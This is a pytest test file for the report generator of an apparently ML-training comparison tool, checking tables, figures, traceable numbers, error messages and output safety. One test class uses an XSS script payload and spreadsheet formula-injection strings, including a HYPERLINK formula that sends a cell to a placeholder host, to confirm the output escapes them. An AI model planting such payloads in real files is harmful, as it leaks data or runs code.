"""Reports: the same bytes each time, every number traced to lines of metrics, one clear sentence per error."""

import csv
import io
import json
import math
import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from report_helpers import cell, cells, read_group, recompute, write_costs, write_run, write_tables

from spheret.cli import main
from spheret.connections import PAPER_SCHEMES, SCHEMES
from spheret.lab.figures.lines import line_styles
from spheret.lab.page.page import page
from spheret.lab.page.tables import Table, TableCell, ranked, to_csv, to_latex, to_markdown
from spheret.lab.report import report
from spheret.lab.rows import LAST_SHARE, MOST_LAST
from spheret.lab.sections.section import Section
from spheret.lab.seed_table import pairs, seed_table
from spheret.lab.statistics import mean_and_deviation


class Page(HTMLParser):
    """Tables, tags and text of a page."""

    def __init__(self, text):
        super().__init__()
        self.tables, self.tags, self.attributes, self.words = {}, [], [], []
        self._cell, self._small = None, False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag == "table":
            self.rows = self.tables[dict(attrs)["id"].removeprefix("table-")] = []
        elif tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "small":
            self._small = True

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.rows[-1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "small":
            self._small = False

    def handle_data(self, data):
        self.words.append(data)
        # small print in a cell, such as a p-value, is for the page alone
        if self._cell is not None and not self._small:
            self._cell.append(data)


# the corpus and the tokenizer of all runs, as file names have them
GROUP = "sotu-bytes"
LOSSES = f"losses-{GROUP}"
STEP_COSTS = {"pre-ln": 0.0801, "keel": 0.09, "proj-spheretnorm": 0.084}


@pytest.fixture(scope="module")
def one_seed(tmp_path_factory):
    """The paper's nine schemes with one seed, one of them diverged: runs and report."""
    root = tmp_path_factory.mktemp("one-seed")
    for index, name in enumerate(PAPER_SCHEMES):
        write_run(root / "runs" / name, name, quality=0.02 * index, diverged=45 if name == "keel" else None, steps=60)
    report([root / "runs"], root / "report")
    return root


@pytest.fixture(scope="module")
def seeds(tmp_path_factory):
    """Three schemes with three seeds each, the last far better: runs and tables."""
    root = tmp_path_factory.mktemp("seeds")
    for name, quality in (("pre-ln", 0.0), ("keel", 0.001), ("proj-spheretnorm", 0.9)):
        for seed in (1, 2, 3):
            write_run(root / "runs" / f"{name}-{seed}", name, seed, quality=quality, steps=60)
    write_costs(root / "runs", STEP_COSTS)
    write_tables([root / "runs"], root / "report")
    return root


class TestFiles:
    def test_all_are_there(self, one_seed):
        names = {
            p.relative_to(one_seed / "report").as_posix() for p in (one_seed / "report").rglob("*") if p.is_file()
        }
        figures = ("training", "time", "gradients", "angle", "alpha", "norm", "cosine")
        # one seed has no means and no pairs, and one rate has no bowl
        of_answers = (f"{GROUP}-curves",)
        assert names == {"report.html", "tables.md", "tables.csv", "tables.tex", "files.txt"} | {
            *(f"figures/{name}.{kind}" for name in (*figures, *of_answers) for kind in ("svg", "png")),
            # heat maps are images
            *(f"figures/{name}.pgf" for name in figures[:3]),
        }

    def test_the_same_runs_give_the_same_bytes(self, one_seed, tmp_path):
        # in another order; runs and report were moved together
        shutil.copytree(one_seed / "runs", tmp_path / "runs")
        runs = sorted((tmp_path / "runs").iterdir(), reverse=True)
        report(runs, tmp_path / "again")
        for path in (p for p in (one_seed / "report").rglob("*") if p.is_file()):
            assert path.read_bytes() == (tmp_path / "again" / path.relative_to(one_seed / "report")).read_bytes(), (
                path
            )

    def test_a_figure_that_is_no_longer_drawn_is_deleted(self, one_seed, tmp_path):
        report([one_seed / "runs" / "pre-ln", one_seed / "runs" / "geonorm"], tmp_path)
        assert (tmp_path / "figures" / "alpha.svg").exists()
        report([one_seed / "runs" / "pre-ln"], tmp_path)
        assert not (tmp_path / "figures" / "alpha.svg").exists()
        assert not (tmp_path / "figures" / f"{GROUP}-answer.png").exists()

    def test_the_command(self, one_seed, tmp_path, capsys):
        assert (
            main(
                [
                    "report",
                    str(one_seed / "runs" / "pre-ln"),
                    str(one_seed / "runs" / "geonorm"),
                    "--out",
                    str(tmp_path),
                ]
            )
            == 0
        )
        printed = capsys.readouterr().out.splitlines()
        assert str(tmp_path / "report.html") in printed
        # the verdict is the last line, and the first of the page
        assert printed[-1] in unescape((tmp_path / "report.html").read_text())
        assert {c["row"] for c in cells(tmp_path) if c["table"] == "results"} == {"pre-ln", "geonorm"}

    @pytest.mark.parametrize("fixture", ["one_seed", "seeds"])
    def test_tables_of_the_page_equal_the_csv(self, fixture, request):
        directory = request.getfixturevalue(fixture) / "report"
        page = Page((directory / "report.html").read_text())
        shown = {
            (table, row[0], column): text
            for table, (head, *rows) in page.tables.items()
            for row in rows
            for column, text in zip(head[1:], row[1:], strict=True)
        }
        written = {(c["table"], c["row"], c["column"]): c["text"] for c in cells(directory)}
        assert shown == written
        assert len(written) == len(cells(directory)) > 400

    def test_tables_of_the_page_equal_the_markdown(self, one_seed):
        text = (one_seed / "report" / "tables.md").read_text()
        for c in cells(one_seed / "report"):
            assert re.sub(r"[\\`*_\[\]|<>u/]|&[a-z]+;", "", c["text"]) in re.sub(
                r"[\\`*_\[\]|<>u/]|&[a-z]+;", "", text
            )


class TestEveryNumberIsTraced:
    @pytest.mark.parametrize("fixture", ["one_seed", "seeds"])
    def test_to_lines_of_metrics(self, fixture, request):
        root = request.getfixturevalue(fixture)
        traced = 0
        for c in cells(root / "report"):
            if c["table"] in ("results", "stream", "runs") or (c["table"], c["column"]) == (LOSSES, "val loss"):
                if c["value"]:
                    assert recompute(root / "runs", c["source"]) == pytest.approx(float(c["value"]), rel=1e-12), c
                    traced += 1
                elif c["column"] not in ("seeds", "seed"):
                    # a cell that has no value shows no number
                    assert not re.match(r"[-+]?\d", c["text"]), c
            assert c["source"] or not c["value"], c
        assert traced > 60

    def test_what_is_shown_is_the_number_rounded(self, one_seed, seeds):
        for root in (one_seed, seeds):
            for c in cells(root / "report"):
                # a very small p is shown as a bound
                if c["value"] and not c["text"].startswith("<"):
                    shown = re.match(r"[-+]?[\d,]*\.?\d+(e[-+]\d+)?", c["text"]).group().replace(",", "")
                    digits = len(shown.partition("e")[0].partition(".")[2])
                    unit = 10.0 ** (int(shown.partition("e")[2] or 0) - digits)
                    assert float(shown) == pytest.approx(float(c["value"]), abs=0.501 * unit), c

    def test_pairs_are_those_of_the_losses(self, seeds):
        losses = {}
        for path in sorted((seeds / "runs").glob("*/metrics.jsonl")):
            name, _, seed = path.parent.name.rpartition("-")
            losses.setdefault(name, {})[int(seed)] = json.loads(path.read_text().splitlines()[-1])["val_loss"]
        for pair in pairs(seed_table(losses)):
            first, second, sign = pair.first, pair.second, 1
            # the better one comes first
            if pair.estimate > 0:
                first, second, sign = second, first, -1
            found = {
                c["column"]: c for c in cells(seeds / "report")
                if (c["table"], c["row"]) == (f"pairs-{GROUP}", f"{first} - {second}")
            }  # fmt: skip
            assert float(found["difference"]["value"]) == pytest.approx(sign * pair.estimate)
            assert float(found["p"]["value"]) == pytest.approx(pair.adjusted)
            ends = sorted((sign * pair.low, sign * pair.high))
            assert found["95% interval"]["text"] == "{:+.4f} to {:+.4f}".format(*ends)

    def test_the_page_carries_the_sources(self, one_seed):
        page = Page((one_seed / "report" / "report.html").read_text())
        sources = {value for key, value in page.attributes if key == "data-source"}
        assert {c["source"] for c in cells(one_seed / "report") if c["source"]} == sources


class TestResults:
    @pytest.mark.parametrize(("steps", "first"), [(60, 55), (300, 271), (2400, 2201)])
    def test_train_loss_is_the_mean_of_the_last_tenth_of_at_most_200_steps(self, steps, first, tmp_path):
        assert (LAST_SHARE, MOST_LAST) == (0.1, 200)
        write_run(tmp_path / "run", steps=steps, eval_every=steps)
        write_tables([tmp_path / "run"], tmp_path / "report")
        losses = [json.loads(text)["loss"] for text in (tmp_path / "run" / "metrics.jsonl").read_text().splitlines()]
        c = cell(tmp_path / "report", "results", "pre-ln", "train loss")
        last = losses[first - 1 :]
        assert float(c["value"]) == pytest.approx(math.fsum(last) / len(last))
        assert c["source"] == f"mean(run[{first}..{steps}].loss)"
        # the row says the same
        (row,) = read_group([tmp_path / "run"]).answer.rows
        assert row.train_loss == pytest.approx(float(c["value"]))

    def test_the_best_is_bold_and_the_second_underlined(self, one_seed):
        rows = Page((one_seed / "report" / "report.html").read_text()).tables["results"]
        values = {row[0]: row[2] for row in rows[1:] if row[2] != "diverged"}
        order = sorted(values, key=lambda name: float(values[name]))
        text = (one_seed / "report" / "tables.md").read_text()
        assert f"**{values[order[0]]}**" in text
        assert f"<u>{values[order[1]]}</u>" in text
        assert rf"\textbf{{{values[order[0]]}}}" in (one_seed / "report" / "tables.tex").read_text()

    def test_equal_after_rounding_is_a_tie(self):
        table = Table(
            "t",
            "t",
            ["n", "x"],
            [[TableCell(n), TableCell(f"{x:.3f}", x)] for n, x in zip("abcd", (2.0, 1.0001, 1.0, 3), strict=True)],
        )
        assert [row[1].rank for row in ranked(table, ["x"]).rows] == [2, 1, 1, 0]
        assert [row[1].rank for row in ranked(table, ["x"], excluded=["b", "c"]).rows] == [1, 0, 0, 2]
        assert [row[1].rank for row in ranked(table, ["x"], largest=True).rows] == [2, 0, 0, 1]

    def test_diverged_is_shown_with_its_step(self, one_seed):
        assert cell(one_seed / "report", "results", "keel", "val loss")["text"] == "diverged"
        assert cell(one_seed / "report", "results", "keel", "state")["text"] == "diverged at step 45"
        assert cell(one_seed / "report", LOSSES, "keel", "val loss")["text"] == "-"
        page = (one_seed / "report" / "report.html").read_text()
        assert "step 45: the loss is nan, layer 3 first" in page
        assert "keel (x: diverged)" in (one_seed / "report" / "figures" / f"{GROUP}-curves.svg").read_text()
        assert read_group([one_seed / "runs"]).answer.failures == {"diverged": {"keel": [0.003]}}

    def test_a_divergence_that_did_not_stop_the_run_is_a_divergence(self, tmp_path):
        write_run(tmp_path / "a")
        write_run(tmp_path / "b", "keel", diverged_finite=33)
        write_tables([tmp_path / "a", tmp_path / "b"], tmp_path / "report")
        for column in ("train loss", "val loss", "perplexity"):
            assert cell(tmp_path / "report", "results", "keel", column)["text"] == "diverged"
        assert cell(tmp_path / "report", "results", "keel", "state")["text"] == "diverged at step 33"
        assert read_group([tmp_path / "a", tmp_path / "b"]).answer.failures == {"diverged": {"keel": [0.003]}}
        assert cell(tmp_path / "report", "runs", "b", "val loss")["text"] == "50.000"
        page = (tmp_path / "report" / "report.html").read_text()
        assert "step 33: the loss 50 is above the unigram entropy; sublayer 3 moved" in page
        assert "not finished" not in page

    def test_the_cost_of_a_step_is_shown_if_it_was_measured_side_by_side(self, one_seed, seeds, tmp_path):
        assert cell(seeds / "report", "results", "pre-ln", "ms per step")["text"] == "80.1"
        assert "ms per step" not in {c["column"] for c in cells(one_seed / "report")}
        # one contestant without it, runs of another race, and runs of no race
        for name in ("missing", "other", "none"):
            runs = [write_run(tmp_path / name / "a", "pre-ln")]
            runs.append(write_run(tmp_path / name / ("deeper" if name == "other" else "") / "b", "keel"))
            if name != "none":
                write_costs(runs[0].parent, {"pre-ln": 0.08})
                write_costs(runs[1].parent, {"pre-ln": 0.08, **({"keel": 0.09} if name == "other" else {})})
            write_tables(runs, tmp_path / name / "report")
            assert "ms per step" not in {c["column"] for c in cells(tmp_path / name / "report")}

    def test_several_seeds_have_a_mean_and_a_deviation(self, seeds):
        runs = [seeds / "runs" / f"keel-{seed}" / "metrics.jsonl" for seed in (1, 2, 3)]
        mean, deviation = mean_and_deviation([json.loads(p.read_text().splitlines()[-1])["val_loss"] for p in runs])
        assert cell(seeds / "report", "results", "keel", "val loss")["text"] == f"{mean:.3f} \u00b1 {deviation:.3f}"
        assert cell(seeds / "report", "results", "keel", "seeds")["text"] == "3 seeds"

    def test_an_alarm_is_reported(self, tmp_path):
        write_run(tmp_path / "run", "geonorm", alarm="all tokens alike from layer 4 on")
        write_tables([tmp_path / "run"], tmp_path / "report")
        page = (tmp_path / "report" / "report.html").read_text()
        assert "geonorm, seed 1337, raised an alarm at step 60: all tokens alike from layer 4 on." in page


class TestVerdicts:
    def test_one_seed_has_no_winner(self, one_seed):
        answer = read_group([one_seed / "runs"]).answer
        assert (answer.seed_table, answer.standing) == (None, None)
        tables = {c["table"] for c in cells(one_seed / "report")}
        assert f"pairs-{GROUP}" not in tables
        assert {c["column"] for c in cells(one_seed / "report") if c["table"] == LOSSES}.isdisjoint(
            {"p", "95% interval"}
        )
        # plain differences are shown
        difference = cell(one_seed / "report", LOSSES, "geonorm", "minus pre-ln")
        assert recompute(one_seed / "runs", difference["source"]) == pytest.approx(float(difference["value"]))

    def test_several_seeds_may_have_a_winner(self, seeds):
        answer = read_group([seeds / "runs"]).answer
        assert answer.standing.winner == "proj-spheretnorm"
        assert set(answer.standing.behind) == {"pre-ln", "keel"}
        assert not answer.gap("keel", "pre-ln").significant
        verdicts = {c["row"]: c["text"] for c in cells(seeds / "report") if c["column"] == "verdict"}
        assert len(verdicts) == 3
        assert [text for row, text in verdicts.items() if row.startswith("proj")] == [
            "proj-spheretnorm is better"
        ] * 2

    def test_one_scheme_under_two_names_has_no_difference(self, tmp_path):
        for seed in (1, 2):
            first = write_run(tmp_path / "runs" / f"a-{seed}", "proj-spheretnorm", seed)
            second = write_run(
                tmp_path / "runs" / f"b-{seed}", "proj-spheretnorm", seed, options={"schedule": "sqrt"}
            )
            assert (first / "metrics.jsonl").read_bytes() == (second / "metrics.jsonl").read_bytes()
        answer = read_group([tmp_path / "runs"]).answer
        gap = answer.gap("proj-spheretnorm", "proj-spheretnorm (schedule=sqrt)")
        assert (gap.estimate, gap.low, gap.high, gap.p) == (0.0, 0.0, 0.0, 1.0)
        assert answer.standing.winner is None

    def test_a_seed_that_diverged_excludes_its_contestant(self, tmp_path):
        for seed in (1, 2):
            write_run(tmp_path / f"a-{seed}", "pre-ln", seed)
            write_run(tmp_path / f"b-{seed}", "post-ln", seed, quality=0.5)
            write_run(tmp_path / f"c-{seed}", "keel", seed, quality=1.0, diverged=5 if seed == 1 else None)
        answer = read_group([tmp_path]).answer
        assert set(answer.seed_table.means) == {"pre-ln", "post-ln"}
        assert answer.failures == {"diverged": {"keel": [0.003]}}

    def test_no_seed_in_common(self, tmp_path):
        write_run(tmp_path / "a", "pre-ln", 1)
        write_run(tmp_path / "b", "keel", 2)
        group = read_group([tmp_path / "a", tmp_path / "b"])
        assert (group.answer.standing, group.one_seed, group.seeds) == (None, True, [1, 2])

    def test_settings_that_differ_are_in_the_name(self, tmp_path):
        write_run(tmp_path / "a", train={"clip": 1.0})
        write_run(tmp_path / "b", train={"clip": 2.0})
        group = read_group([tmp_path / "a", tmp_path / "b"])
        assert list(group.contestants) == ["pre-ln, clip=1.0", "pre-ln, clip=2.0"]
        assert group.differing == ["clip"]


class TestBadInput:
    """Each case ends with one sentence and exit code 2."""

    def error(self, capsys, *arguments):
        assert main(["report", *map(str, arguments)]) == 2
        captured = capsys.readouterr()
        assert captured.err.startswith("spheret report: ")
        assert captured.err.count("\n") == 1
        return captured.err

    def test_no_run(self, capsys, tmp_path):
        assert "at least one run directory, got none" in self.error(capsys)
        assert "is not a run" in self.error(capsys, tmp_path)
        assert "no run directory at" in self.error(capsys, tmp_path / "nothing")

    def test_different_windows(self, capsys, tmp_path):
        write_run(tmp_path / "a")
        path = write_run(tmp_path / "b", "keel") / "metrics.jsonl"
        *lines, last = path.read_text().splitlines()
        line = json.loads(last)
        line["val_documents"][0][1] += 1
        path.write_text("\n".join([*lines, json.dumps(line)]) + "\n")
        assert "validated on different windows" in self.error(capsys, tmp_path / "a", tmp_path / "b")

    @pytest.mark.parametrize(
        "text",
        [
            '{"step": 20, "loss', "[]", '{"loss": 1}', '{"step": "x"}', '{"step": 20, "loss": "2"}',
            '{"step": 20, "loss": true}', '{"step": 20, "loss": 2.0, "grad_norm": "x"}',
            '{"step": 20, "loss": 2.0, "val_loss": 2.0, "sublayers": "x"}',
            '{"step": 20, "loss": 2.0, "val_loss": 2.0, "sublayers": [{"norm": "x"}]}',
            '{"step": 20, "loss": 2.0, "val_loss": 2.0, "val_documents": [[1, 2]]}',
        ],
    )  # fmt: skip
    def test_a_damaged_line(self, capsys, tmp_path, text):
        path = write_run(tmp_path / "a") / "metrics.jsonl"
        lines = path.read_text().splitlines()
        path.write_text("\n".join([*lines[:19], text, *lines[20:]]) + "\n")
        assert re.search(r"line 20 of .*metrics.jsonl|step 20 of .*metrics.jsonl", self.error(capsys, tmp_path / "a"))

    def test_a_step_twice(self, capsys, tmp_path):
        path = write_run(tmp_path / "a") / "metrics.jsonl"
        lines = path.read_text().splitlines()
        path.write_text("\n".join([*lines[:20], *lines[18:]]) + "\n")
        assert "step 19 after step 20" in self.error(capsys, tmp_path / "a")

    def test_two_runs_of_one_contestant_and_seed(self, capsys, tmp_path):
        write_run(tmp_path / "a")
        write_run(tmp_path / "b")
        error = self.error(capsys, tmp_path / "a", tmp_path / "b")
        assert "a and b are both pre-ln with seed 1337" in error
        # the same path twice is one run
        assert main(["report", str(tmp_path / "a"), str(tmp_path / "a"), "--out", str(tmp_path / "report")]) == 0

    def test_damaged_results_beside_the_runs(self, capsys, tmp_path):
        write_run(tmp_path / "a")
        (tmp_path / "results.jsonl").write_text("{}\n")
        assert "line 1 of" in self.error(capsys, tmp_path / "a")
        # a file of somebody else further up is not read
        run = write_run(tmp_path / "folder" / "a")
        assert main(["report", str(run), "--out", str(tmp_path / "report")]) == 0

    def test_out_is_a_file(self, capsys, tmp_path):
        write_run(tmp_path / "a")
        (tmp_path / "file").write_text("")
        assert "is a file" in self.error(capsys, tmp_path / "a", "--out", tmp_path / "file")


class TestUnfinished:
    def test_an_unfinished_run(self, tmp_path):
        write_run(tmp_path / "a")
        write_run(tmp_path / "b", "keel", until=45, quality=1.0)
        write_tables([tmp_path / "a", tmp_path / "b"], tmp_path / "report")
        assert cell(tmp_path / "report", "results", "keel", "state")["text"] == "unfinished: step 45 of 60"
        assert cell(tmp_path / "report", "results", "keel", "val loss")["source"] == "b[40].val_loss"
        answer = read_group([tmp_path / "a", tmp_path / "b"]).answer
        assert (answer.by_label["keel"].state, answer.by_label["keel"].finals) == ("tuning", {})
        assert answer.missing["tune"] == 1
        # its loss is the lowest, but it is not marked as the best
        assert "**" not in next(
            x for x in (tmp_path / "report" / "tables.md").read_text().splitlines() if "| keel" in x
        )

    def test_a_line_that_is_being_written(self, tmp_path):
        path = write_run(tmp_path / "a", until=30) / "metrics.jsonl"
        path.write_text(path.read_text() + '{"step": 31, "lo')
        write_tables([tmp_path / "a"], tmp_path / "report")
        assert cell(tmp_path / "report", "results", "pre-ln", "state")["text"] == "unfinished: step 30 of 60"

    @pytest.mark.parametrize("until", [0, 1, 5])
    def test_before_the_first_evaluation(self, tmp_path, until):
        write_run(tmp_path / "a", until=until)
        report([tmp_path / "a"], tmp_path / "report")
        assert cell(tmp_path / "report", "results", "pre-ln", "val loss")["text"] == "-"

    def test_diverged_at_the_first_step(self, tmp_path):
        write_run(tmp_path / "a", diverged=1)
        report([tmp_path / "a"], tmp_path / "report")
        assert cell(tmp_path / "report", "results", "pre-ln", "state")["text"] == "diverged at step 1"


class TestStringsOfARun:
    NASTY = '<script>alert("x")</script>&amp;|`$\\frac{1}{2}$_%#{}^~*'

    @pytest.fixture(scope="class")
    def directory(self, tmp_path_factory):
        tmp_path, nasty = tmp_path_factory.mktemp("nasty"), self.NASTY
        write_run(
            tmp_path / "a<b>&c",
            alarm=nasty,
            environment={"command": nasty, "processor": nasty},
            train={"init_from": nasty},
        )
        write_run(tmp_path / "b", "proj-spheretnorm", train={"init_from": "x"})
        report([tmp_path / "a<b>&c", tmp_path / "b"], tmp_path / "report")
        return tmp_path / "report"

    def test_are_text_in_the_page(self, directory):
        text = (directory / "report.html").read_text()
        page = Page(text)
        # the three scripts of every page, and the numbers of its charts
        assert page.tags.count("script") == 4
        data = re.search(r'<script type="application/json" id="charts">(.*?)</script>', text, re.DOTALL).group(1)
        assert not re.search("[<>&]", data)
        labels = {series["label"] for chart in json.loads(data).values() for series in chart["series"]}
        assert f"pre-ln, init_from={self.NASTY}" in labels
        assert "b" not in [tag for tag in page.tags if tag == "c"]
        assert any(self.NASTY in word for word in page.words)
        assert f"pre-ln, init_from={self.NASTY}" in [row[0] for row in page.tables["results"]]

    def test_are_text_in_figures(self, directory):
        import xml.etree.ElementTree as ElementTree

        for path in (directory / "figures").glob("*.svg"):
            root = ElementTree.fromstring(path.read_text())
            assert not [e for e in root.iter() if e.tag.endswith("script")]
        drawn = "".join(
            ElementTree.fromstring((directory / "figures" / f"{GROUP}-curves.svg").read_text()).itertext()
        )
        assert self.NASTY in drawn

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "-1+", "+1 ", "-cmd|", "--"])
    def test_are_no_formulas_in_the_csv(self, start):
        """A spreadsheet would compute the first, and could start a program or send a cell to a server."""
        formula = f'{start}HYPERLINK("http://x/"&A1)'
        table = Table(formula, "c", ["n", formula], [[TableCell(formula), TableCell(formula, 1.0, formula)]])
        row = next(iter(csv.DictReader(io.StringIO(to_csv([table]), newline=""))))
        assert {key: text for key, text in row.items() if key != "value"} == dict.fromkeys(
            ("table", "row", "column", "text", "source"), f"'{formula}"
        )

    @pytest.mark.parametrize(
        "text", ["-", "-0.5", "+1.25", "-1,234.5", "-1e-05", "-0.30 \u00b1 0.10", "-3.1 %", "12", "a=1"]
    )
    def test_numbers_in_the_csv_stay_numbers(self, text):
        table = Table("t", "c", ["n", "x"], [[TableCell("a"), TableCell(text, -0.5)]])
        row = next(iter(csv.DictReader(io.StringIO(to_csv([table])))))
        assert (row["text"], row["value"]) == (text, "-0.5")

    def test_are_text_in_markdown_and_latex(self):
        table = Table("t", "c", ["n", "x"], [[TableCell(self.NASTY), TableCell("a\nb|c")]])
        markdown = to_markdown([table])
        assert "<script" not in markdown
        assert markdown.count("\n") == 5
        assert len(re.findall(r"(?<!\\)\|", markdown.splitlines()[-1])) == 3
        latex = to_latex([table])
        body = latex.split("\\midrule")[1].split("\\bottomrule")[0]
        assert not re.search(r"(?<!\\)[%#_]", body)
        assert body.count("&") - body.count("\\&") == 1
        assert page("t", [Section("s", "s", [self.NASTY], [table])], []).count("<script") == 1


def test_every_scheme_can_be_reported(tmp_path):
    for name in SCHEMES:
        write_run(tmp_path / "runs" / name, name, steps=20)
    write_tables([tmp_path / "runs"], tmp_path / "report")
    assert {c["row"] for c in cells(tmp_path / "report") if c["table"] == "results"} == set(SCHEMES)
    # no two schemes have the same colour and dashes
    assert len(set(line_styles(read_group([tmp_path / "runs"]).answer).values())) == len(SCHEMES)


def test_runs_with_one_name_in_two_places(tmp_path):
    write_run(tmp_path / "x" / "run")
    write_run(tmp_path / "y" / "run", "keel")
    write_tables([tmp_path / "x" / "run", tmp_path / "y" / "run"], tmp_path / "report")
    assert cell(tmp_path / "report", "results", "keel", "val loss")["source"] == "y/run[60].val_loss"


def test_a_directory_of_runs_names_every_run_in_it(one_seed):
    assert len(read_group([one_seed / "runs"]).results) == 9
    assert Path(read_group([one_seed / "runs" / "keel"]).results[0].run.path).name == "keel"


@pytest.mark.parametrize("kept", [["tables.csv"], ["tables.md", "figures/training.svg"], []])
def test_a_report_that_was_killed_half_way_is_written_again(kept, tmp_path):
    run, out = write_run(tmp_path / "runs", "pre-ln"), tmp_path / "out"
    report([run], out)
    whole = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    for path in whole:
        if path.relative_to(out).as_posix() not in (*kept, "files.txt"):
            path.unlink()
    report([run], out)
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == whole


@pytest.mark.parametrize("name", ["report.html", "tables.csv", "figures/training.svg", f"figures/{GROUP}-curves.svg"])
def test_files_that_are_not_ours_are_not_overwritten(name, tmp_path):
    run = write_run(tmp_path / "runs", "pre-ln")
    own = tmp_path / "out" / name
    own.parent.mkdir(parents=True)
    own.write_text("a user's")
    with pytest.raises(FileExistsError, match=f"holds {name}, "):
        report([run], tmp_path / "out")
    assert own.read_text() == "a user's"
    assert [path for path in (tmp_path / "out").rglob("*") if path.is_file()] == [own]
